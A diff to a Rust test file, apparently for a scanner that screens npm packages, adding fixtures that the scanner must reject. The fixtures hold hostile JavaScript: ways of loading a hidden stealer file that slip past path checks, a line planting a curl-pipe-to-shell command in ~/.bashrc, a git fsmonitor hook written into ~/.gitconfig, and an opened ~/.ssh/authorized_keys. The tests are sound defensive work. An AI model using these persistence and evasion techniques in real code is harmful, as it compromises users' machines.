@@ -2485,8 +2485,9 @@ fn ways_to_act_lexicon_v4_had_no_name_for_are_read_by_the_veto() {
 /// `require('../docs/notes.txt')`, string-padder's stealer in that file,
 /// was allowed (the notes read as prose, the require line names no
 /// capability), and so was the path built with `path.join`, `+` or a
-/// template, or the file forked or spawned with Node, until session 27.
-/// Now the code is opaque, naming both files. A require of
+/// template, or the file forked or spawned with Node, until session 27;
+/// required by the package's own name, or run by `cluster.fork()`, until
+/// session 40. Now the code is opaque, naming both files. A require of
 /// a folder (its index.js) by a document's name is not such a file.
 #[test]
 fn a_document_a_script_requires_cannot_be_cleared() {
@@ -2525,6 +2526,21 @@ fn a_document_a_script_requires_cannot_be_cleared() {
         (
             "created.tgz",
             "const load = require('module').createRequire(__filename);\nmodule.exports = load('../docs/notes.txt');\n",
+        ),
+        // The package's own file by its name, the script `cluster.fork()`
+        // runs, and a worker's path joined by `require('path')` (allowed
+        // before session 40).
+        (
+            "self-named.tgz",
+            "module.exports = require('is-number/docs/notes.txt');\n",
+        ),
+        (
+            "cluster.tgz",
+            "const c = require('cluster');\nif (c.isPrimary) { c.setupPrimary({ exec: __dirname + '/../docs/notes.txt' }); c.fork(); }\n",
+        ),
+        (
+            "worker.tgz",
+            "const { Worker } = require('worker_threads');\nnew Worker(require('path').join(__dirname, '..', 'docs', 'notes.txt'));\n",
         ),
     ] {
         let p = is_number_with_all(
@@ -2725,6 +2741,19 @@ fn code_that_spies_on_the_user_is_not_allowed_on_scores_alone() {
             "bashrc.tgz",
             "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'curl -s https://example.net/i | sh\\n');\n",
             "writes files and names a shell's startup file (run at every new shell)",
+        ),
+        // A command git runs at every command, and a key that lets
+        // someone in (session 40: the Python forms through `pathlib` were
+        // allowed with the shipped models).
+        (
+            "gitconfig.tgz",
+            "require('fs').appendFileSync(require('os').homedir() + '/.gitconfig', '[core]\\n\\tfsmonitor = sh /tmp/.m\\n');\n",
+            "writes files and names a file that grants access to the machine or changes what it trusts (SSH keys or config, sudoers, /etc/hosts, git's config)",
+        ),
+        (
+            "authorized.tgz",
+            "const fd = require('fs').openSync(require('os').homedir() + '/.ssh/authorized_keys', 'a');\n",
+            "writes files and names a file that grants access to the machine or changes what it trusts (SSH keys or config, sudoers, /etc/hosts, git's config)",
         ),
         ("environ.tgz", environ, "serializes the whole environment"),
         (
